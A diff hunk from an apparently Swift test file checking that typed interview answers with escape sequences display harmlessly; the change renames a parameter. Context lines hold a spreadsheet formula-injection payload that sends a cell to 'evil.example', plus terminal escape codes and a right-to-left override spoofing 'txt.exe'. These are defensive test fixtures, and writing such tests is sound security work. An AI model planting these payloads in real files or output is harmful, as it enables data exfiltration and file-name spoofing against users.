@@ -39,13 +39,13 @@ let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=c
     func aTypedAnswerWithEscapeSequencesIsShownHarmless(onATerminal: Bool) throws {
         let fixture = try InterviewFixture()
         defer { fixture.directory.remove() }
-        var interview = try Interview(questionnaire: fixture.questionnaire, workspace: fixture.workspace,
+        var interview = try Interview(questionnaire: fixture.questionnaire, store: fixture.workspace,
                                       round: try fixture.workspace.round(), language: .en)
         var console = ScriptedConsole(["2", "yes", "2026-03-01", "1,2", "7", Self.hostile])
         console.isTerminal = onATerminal
         _ = try interview.run(console: &console)
         #expect(try fixture.stored()["comment"]?.value == .text("Hello"))
-        var again = try Interview(questionnaire: fixture.questionnaire, workspace: fixture.workspace,
+        var again = try Interview(questionnaire: fixture.questionnaire, store: fixture.workspace,
                                   round: try fixture.workspace.round(), language: .en)
         var second = ScriptedConsole(["n", "note \u{1B}[2J\u{202E}txt.exe", ""])
         second.isTerminal = onATerminal
